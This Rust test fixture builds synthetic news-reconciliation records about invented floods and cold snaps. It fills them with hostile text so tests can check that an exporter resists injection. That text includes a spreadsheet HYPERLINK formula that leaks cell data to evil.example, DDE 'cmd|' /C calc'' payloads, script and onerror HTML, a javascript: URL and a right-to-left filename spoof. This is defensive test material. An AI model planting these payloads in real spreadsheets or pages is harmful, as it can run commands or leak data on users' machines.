//! A rich synthetic `Reconciled`: two stories, independence groups, a figure in
//! conflict with a retracted mention, name variants, quotes, a duplicate and a failed
//! source, and hostile text everywhere a reviewer's spreadsheet or browser could be
//! tricked (formula starts, quotes, commas, line breaks, tabs, bidi controls, HTML).
//! Invented outlets and events; nothing of the seed story.

#![allow(dead_code)]

use records::*;

/// A title that is a spreadsheet formula (an exfiltrating hyperlink).
pub const TITLE_FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
/// A title with HTML that would run in a browser.
pub const TITLE_SCRIPT: &str =
    "<script>alert('x')</script><img src=x onerror=alert(1)> Flood \"toll\", rising";
/// A title with a line break, a tab and a right-to-left override.
pub const TITLE_BIDI: &str = "Dam\nbreaks\tupstream \u{202E}txt.exe";
/// An error message starting with `@` after a bidi mark.
pub const ERROR_AT: &str = "\u{200F}@SUM(1+1)*cmd|' /C calc'!A0";
/// A quote starting with `+`.
pub const QUOTE_PLUS: &str = "+We will rebuild, \"stronger\" than before";
/// An evidence sentence starting with `-`, with a carriage return inside.
pub const SENTENCE_MINUS: &str = "-2+3 is what the ministry said:\r\nthe toll is 120 dead.";

fn src(
    id: &str,
    title: &str,
    outlet: &str,
    published: &str,
    story: &str,
    group: &str,
) -> SourceRow {
    SourceRow {
        source_id: id.to_string(),
        file: id.to_string(),
        title: Some(title.to_string()),
        outlet: Some(outlet.to_string()),
        published: Some(published.to_string()),
        published_time: None,
        words: 400 + id.len() * 7,
        status: SourceStatus::Ok,
        story_id: Some(story.to_string()),
        group_id: Some(group.to_string()),
        content_hash: Some(format!("hash-{id}")),
        url: Some(format!("https://news.example/{id}")),
    }
}

#[allow(clippy::too_many_arguments)]
fn mention(
    fact: &str,
    source: &str,
    text: &str,
    low: f64,
    high: f64,
    sentence: &str,
    start: usize,
    retracted: bool,
) -> FactMention {
    FactMention {
        fact_id: fact.to_string(),
        source_id: source.to_string(),
        text: text.to_string(),
        low,
        high,
        unit: None,
        event: Some("killed".to_string()),
        attributed_to: Some("Ministry of Emergencies".to_string()),
        hedged: text.contains("about") || text.contains("nearly"),
        retracted,
        correction: retracted.then_some(records::Correction::Retracted),
        as_of: Some("2031-04-03".to_string()),
        sentence: sentence.to_string(),
        start,
        end: start + text.chars().count(),
    }
}

#[allow(clippy::too_many_arguments)]
fn fact(
    id: &str,
    story: &str,
    what: &str,
    status: FactStatus,
    best: (f64, f64),
    values: &[&str],
    sources: usize,
    independent: usize,
    evidence: &str,
) -> Fact {
    Fact {
        fact_id: id.to_string(),
        story_id: story.to_string(),
        what: what.to_string(),
        status,
        best_low: Some(best.0),
        best_high: Some(best.1),
        values: values.iter().map(|s| s.to_string()).collect(),
        sources,
        independent_sources: independent,
        attributed_to: vec!["Ministry of Emergencies".to_string()],
        evidence: evidence.to_string(),
        as_of: None,
        kind: records::QuantityKind::Count,
        unit: None,
        part_of: None,
    }
}

#[allow(clippy::too_many_arguments)]
fn quote(
    id: &str,
    source: &str,
    speaker: &str,
    kind: QuoteKind,
    wording: Wording,
    sources: usize,
    text: &str,
    start: usize,
) -> QuoteRow {
    QuoteRow {
        quote_id: id.to_string(),
        source_id: source.to_string(),
        speaker: Some(speaker.to_string()),
        kind,
        wording,
        sources,
        text: text.to_string(),
        start,
        end: start + text.chars().count(),
        verb: Some("said".to_string()),
    }
}

/// The fixture.
pub fn fixture() -> Reconciled {
    let s1 = "The river flood killed 120 people, the Ministry of Emergencies said on Thursday.";
    let s2 = "At least 150 people were killed, according to local officials.";
    let s3 = "Nearly 200 people died, the paper reported, before it withdrew the figure.";
    let s4 = "Dozens of people were killed, witnesses said.";
    let mut sources = vec![
        src(
            "src2.txt",
            TITLE_FORMULA,
            "Valley Courier",
            "2031-04-03",
            "S1",
            "G1",
        ),
        src(
            "src10.txt",
            TITLE_SCRIPT,
            "Valley Courier Online",
            "2031-04-03",
            "S1",
            "G1",
        ),
        src(
            "wire/a.txt",
            TITLE_BIDI,
            "Northern Wire",
            "2031-04-02",
            "S1",
            "G2",
        ),
        src(
            "b.md",
            "Flood toll rises to 120, ministry says",
            "The Lowland Times",
            "2031-04-04",
            "S1",
            "G3",
        ),
        src(
            "c.html",
            "-40 degrees: cold snap grips the north",
            "Polar Post",
            "2031-01-15",
            "S2",
            "G4",
        ),
        src(
            "d.json#1",
            "Cold snap: +5 shelters open",
            "@Polar_Bulletin",
            "2031-01-16",
            "S2",
            "G5",
        ),
    ];
    sources.push(SourceRow {
        source_id: "src3.txt".to_string(),
        file: "src3.txt".to_string(),
        title: Some(TITLE_FORMULA.to_string()),
        outlet: None,
        published: None,
        published_time: None,
        words: 0,
        status: SourceStatus::Duplicate {
            of: "src2.txt".to_string(),
        },
        story_id: None,
        group_id: None,
        content_hash: Some("hash-src2.txt".to_string()),
        url: Some("javascript:alert(1)".to_string()),
    });
    sources.push(SourceRow {
        source_id: "broken.bin".to_string(),
        file: "broken.bin".to_string(),
        title: None,
        outlet: None,
        published: None,
        published_time: None,
        words: 0,
        status: SourceStatus::Error {
            stage: "ingest".to_string(),
            reason: "binary file, not an article".to_string(),
        },
        story_id: None,
        group_id: None,
        content_hash: None,
        url: None,
    });

    let entities = vec![
        EntityRow {
            entity_id: "E1".to_string(),
            name: "Ministry of Emergencies".to_string(),
            kind: EntityType::Organization,
            roles: vec![],
            aliases: vec![
                "Ministry of Emergencies".to_string(),
                "the ministry".to_string(),
            ],
            variants: vec![],
            sources: 4,
            mentions: 9,
            source_ids: vec![
                "wire/a.txt".to_string(),
                "src2.txt".to_string(),
                "b.md".to_string(),
                "src10.txt".to_string(),
            ],
        },
        EntityRow {
            entity_id: "E2".to_string(),
            name: "Ardan Velikov".to_string(),
            kind: EntityType::Person,
            roles: vec!["Governor".to_string(), "ex-Mayor".to_string()],
            aliases: vec![
                "Ardan Velikov".to_string(),
                "Velikov".to_string(),
                "Velicov".to_string(),
            ],
            variants: vec![
                "Velicov (b.md)".to_string(),
                "=Velikof (src10.txt)".to_string(),
            ],
            sources: 3,
            mentions: 5,
            source_ids: vec![
                "src10.txt".to_string(),
                "b.md".to_string(),
                "src2.txt".to_string(),
            ],
        },
        EntityRow {
            entity_id: "E10".to_string(),
            name: "Lowland, \"North\" Province".to_string(),
            kind: EntityType::Place,
            roles: vec![],
            aliases: vec!["Lowland".to_string()],
            variants: vec![],
            sources: 2,
            mentions: 2,
            source_ids: vec!["c.html".to_string(), "d.json#1".to_string()],
        },
    ];

    let facts = vec![
        fact(
            "F1",
            "S1",
            "people killed",
            FactStatus::Conflict,
            (120.0, 120.0),
            &[
                "b.md: 120",
                "src2.txt: at least 150",
                "wire/a.txt: Nearly 200",
                "src10.txt: Dozens",
            ],
            4,
            3,
            s1,
        ),
        fact(
            "F2",
            "S1",
            "people evacuated",
            FactStatus::Agreed,
            (3000.0, 3000.0),
            &["b.md: 3,000", "wire/a.txt: 3,000"],
            2,
            2,
            "Some 3,000 people were evacuated.",
        ),
        fact(
            "F10",
            "S1",
            "homes destroyed",
            FactStatus::Consistent,
            (400.0, 450.0),
            &["b.md: about 400", "src2.txt: hundreds"],
            2,
            2,
            SENTENCE_MINUS,
        ),
        fact(
            "F3",
            "S2",
            "shelters opened",
            FactStatus::Single,
            (5.0, 5.0),
            &["d.json#1: +5"],
            1,
            1,
            "Cold snap: +5 shelters open",
        ),
        fact(
            "F4",
            "S2",
            "temperature change",
            FactStatus::Conflict,
            (-40.0, -38.0),
            &["c.html: -40", "d.json#1: -32.5"],
            2,
            2,
            "-40 degrees",
        ),
    ];

    let fact_mentions = vec![
        mention("F1", "b.md", "120", 120.0, 120.0, s1, 23, false),
        mention(
            "F1",
            "src2.txt",
            "At least 150",
            150.0,
            190.0,
            s2,
            10,
            false,
        ),
        mention("F1", "wire/a.txt", "Nearly 200", 185.0, 199.0, s3, 0, true),
        mention("F1", "src10.txt", "Dozens", 24.0, 99.0, s4, 44, false),
        mention(
            "F2",
            "b.md",
            "3,000",
            3000.0,
            3000.0,
            "Some 3,000 people were evacuated.",
            120,
            false,
        ),
        mention(
            "F2",
            "wire/a.txt",
            "3,000",
            3000.0,
            3000.0,
            "About 3,000\tpeople were evacuated.",
            88,
            false,
        ),
        mention(
            "F10",
            "b.md",
            "about 400",
            360.0,
            440.0,
            SENTENCE_MINUS,
            200,
            false,
        ),
        mention(
            "F10",
            "src2.txt",
            "hundreds",
            200.0,
            900.0,
            "=SUM(A1:A9) homes, hundreds of them, were destroyed",
            300,
            false,
        ),
        mention(
            "F3",
            "d.json#1",
            "+5",
            5.0,
            5.0,
            "Cold snap: +5 shelters open",
            0,
            false,
        ),
        mention(
            "F4",
            "c.html",
            "-40",
            -40.0,
            -40.0,
            "-40 degrees: cold snap grips the north",
            0,
            false,
        ),
        mention(
            "F4",
            "d.json#1",
            "-32.5",
            -32.5,
            -32.5,
            "Thermometers read -32.5 at dawn.",
            15,
            false,
        ),
    ];

    let quotes = vec![
        quote(
            "Q1",
            "b.md",
            "Ardan Velikov",
            QuoteKind::Direct,
            Wording::Variant,
            2,
            "We will rebuild, stronger than before",
            400,
        ),
        quote(
            "Q1",
            "src2.txt",
            "Ardan Velikov",
            QuoteKind::Direct,
            Wording::Variant,
            2,
            QUOTE_PLUS,
            410,
        ),
        quote(
            "Q2",
            "wire/a.txt",
            "Ministry of Emergencies",
            QuoteKind::Indirect,
            Wording::Single,
            1,
            "the water\nwould recede by Monday",
            500,
        ),
        quote(
            "Q10",
            "c.html",
            "Polar Post",
            QuoteKind::Direct,
            Wording::Single,
            1,
            "@everyone stay indoors",
            12,
        ),
    ];

    let conflicts = vec![
        Conflict {
            conflict_id: "C1".to_string(),
            kind: ConflictKind::Number,
            story_id: "S1".to_string(),
            subject: "people killed".to_string(),
            source_a: "b.md".to_string(),
            value_a: "120".to_string(),
            source_b: "src2.txt".to_string(),
            value_b: "At least 150".to_string(),
            note: "120 lies below the lowest value \"At least 150\" allows".to_string(),
        },
        Conflict {
            conflict_id: "C2".to_string(),
            kind: ConflictKind::Name,
            story_id: "S1".to_string(),
            subject: "Ardan Velikov".to_string(),
            source_a: "src2.txt".to_string(),
            value_a: "Velikov".to_string(),
            source_b: "b.md".to_string(),
            value_b: "Velicov".to_string(),
            note: "one letter apart; same role".to_string(),
        },
        Conflict {
            conflict_id: "C10".to_string(),
            kind: ConflictKind::Quote,
            story_id: "S1".to_string(),
            subject: "Q1".to_string(),
            source_a: "b.md".to_string(),
            value_a: "Ardan Velikov".to_string(),
            source_b: "src2.txt".to_string(),
            value_b: "=cmd|' /C calc'!A0".to_string(),
            note: "same words, different speakers".to_string(),
        },
        Conflict {
            conflict_id: "C3".to_string(),
            kind: ConflictKind::Number,
            story_id: "S2".to_string(),
            subject: "temperature change (F4)".to_string(),
            source_a: "c.html".to_string(),
            value_a: "-40".to_string(),
            source_b: "d.json#1".to_string(),
            value_b: "-32.5".to_string(),
            note: "-40 and -32.5 cannot both be the low".to_string(),
        },
    ];

    let pair = |a: &str, b: &str, sim: f64, shared: usize, rel: Relation, ev: &str| SourcePair {
        source_a: a.to_string(),
        source_b: b.to_string(),
        similarity: sim,
        shared_facts: shared,
        relation: rel,
        evidence: ev.to_string(),
    };
    let source_pairs = vec![
        pair(
            "src10.txt",
            "src2.txt",
            0.9134,
            3,
            Relation::Derived,
            "87% of sentences aligned; same quotes",
        ),
        pair(
            "b.md",
            "src2.txt",
            0.31,
            2,
            Relation::Related,
            "shared facts only",
        ),
        pair(
            "b.md",
            "src10.txt",
            0.28,
            1,
            Relation::Related,
            "shared facts only",
        ),
        pair(
            "b.md",
            "wire/a.txt",
            0.12,
            2,
            Relation::Independent,
            "+few shared words",
        ),
        pair(
            "src2.txt",
            "wire/a.txt",
            0.52,
            1,
            Relation::Related,
            "wire phrasing",
        ),
        pair(
            "src10.txt",
            "wire/a.txt",
            0.49,
            1,
            Relation::Related,
            "wire phrasing",
        ),
        pair(
            "c.html",
            "d.json#1",
            0.2,
            1,
            Relation::Independent,
            "different reporting",
        ),
    ];

    let timeline = vec![
        TimelineEvent {
            date: "2031-04-01".to_string(),
            story_id: "S1".to_string(),
            event: "Heavy rain begins upstream".to_string(),
            sources: 2,
            source_ids: vec!["wire/a.txt".to_string(), "b.md".to_string()],
        },
        TimelineEvent {
            date: "2031-04-02".to_string(),
            story_id: "S1".to_string(),
            event: "The dam breaks; \"=evacuate\" orders issued".to_string(),
            sources: 3,
            source_ids: vec![
                "src2.txt".to_string(),
                "b.md".to_string(),
                "wire/a.txt".to_string(),
            ],
        },
        TimelineEvent {
            date: "2031-04-02".to_string(),
            story_id: "S1".to_string(),
            event: "Army deployed to the valley".to_string(),
            sources: 1,
            source_ids: vec!["b.md".to_string()],
        },
        TimelineEvent {
            date: "2031-01".to_string(),
            story_id: "S2".to_string(),
            event: "Cold snap begins".to_string(),
            sources: 1,
            source_ids: vec!["c.html".to_string()],
        },
        TimelineEvent {
            date: "2031-04-10".to_string(),
            story_id: "S1".to_string(),
            event: "Inquiry opens <b>bold</b>".to_string(),
            sources: 1,
            source_ids: vec!["src10.txt".to_string()],
        },
    ];

    let errors = vec![
        Diagnostic {
            source_id: "broken.bin".to_string(),
            stage: "ingest".to_string(),
            error: "binary file, not an article".to_string(),
        },
        Diagnostic {
            source_id: "c.html".to_string(),
            stage: "extract".to_string(),
            error: ERROR_AT.to_string(),
        },
    ];

    Reconciled {
        sources,
        entities,
        facts,
        fact_mentions,
        quotes,
        conflicts,
        source_pairs,
        timeline,
        errors,
        reviews: Vec::new(),
    }
}

/// A deterministic permutation of `items` (a small linear congruential generator:
/// the tests need variety, not randomness).
pub fn shuffle<T>(items: &mut [T], seed: u64) {
    let mut state = seed
        .wrapping_mul(6364136223846793005)
        .wrapping_add(1442695040888963407);
    for i in (1..items.len()).rev() {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let j = ((state >> 33) as usize) % (i + 1);
        items.swap(i, j);
    }
}

/// The fixture with every list (and every list inside a cell that has no meaning
/// in its order) shuffled.
pub fn shuffled(seed: u64) -> Reconciled {
    let mut rec = fixture();
    shuffle(&mut rec.sources, seed);
    shuffle(&mut rec.entities, seed + 1);
    shuffle(&mut rec.facts, seed + 2);
    shuffle(&mut rec.fact_mentions, seed + 3);
    shuffle(&mut rec.quotes, seed + 4);
    shuffle(&mut rec.conflicts, seed + 5);
    shuffle(&mut rec.source_pairs, seed + 6);
    shuffle(&mut rec.timeline, seed + 7);
    shuffle(&mut rec.errors, seed + 8);
    for e in &mut rec.entities {
        shuffle(&mut e.source_ids, seed + 9);
    }
    for t in &mut rec.timeline {
        shuffle(&mut t.source_ids, seed + 10);
    }
    rec
}

/// `n` renamed copies of the fixture (story `S1` of copy 7 becomes `S1-7`, source
/// `b.md` becomes `7/b.md`, and so on), to render a run of realistic size.
pub fn large(n: usize) -> Reconciled {
    let mut out = Reconciled::default();
    for k in 0..n {
        let mut rec = fixture();
        let sid = |s: &mut String| *s = format!("{k}/{s}");
        let id = |s: &mut String| *s = format!("{s}-{k}");
        for s in &mut rec.sources {
            sid(&mut s.source_id);
            sid(&mut s.file);
            s.story_id.as_mut().map(id);
            s.group_id.as_mut().map(id);
        }
        for e in &mut rec.entities {
            id(&mut e.entity_id);
            e.source_ids.iter_mut().for_each(sid);
        }
        for f in &mut rec.facts {
            id(&mut f.fact_id);
            id(&mut f.story_id);
        }
        for m in &mut rec.fact_mentions {
            id(&mut m.fact_id);
            sid(&mut m.source_id);
        }
        for q in &mut rec.quotes {
            id(&mut q.quote_id);
            sid(&mut q.source_id);
        }
        for c in &mut rec.conflicts {
            id(&mut c.conflict_id);
            id(&mut c.story_id);
            sid(&mut c.source_a);
            sid(&mut c.source_b);
            if c.kind == ConflictKind::Quote {
                id(&mut c.subject);
            }
        }
        for p in &mut rec.source_pairs {
            sid(&mut p.source_a);
            sid(&mut p.source_b);
        }
        for t in &mut rec.timeline {
            id(&mut t.story_id);
            t.source_ids.iter_mut().for_each(sid);
        }
        for e in &mut rec.errors {
            sid(&mut e.source_id);
        }
        out.sources.extend(rec.sources);
        out.entities.extend(rec.entities);
        out.facts.extend(rec.facts);
        out.fact_mentions.extend(rec.fact_mentions);
        out.quotes.extend(rec.quotes);
        out.conflicts.extend(rec.conflicts);
        out.source_pairs.extend(rec.source_pairs);
        out.timeline.extend(rec.timeline);
        out.errors.extend(rec.errors);
    }
    out
}
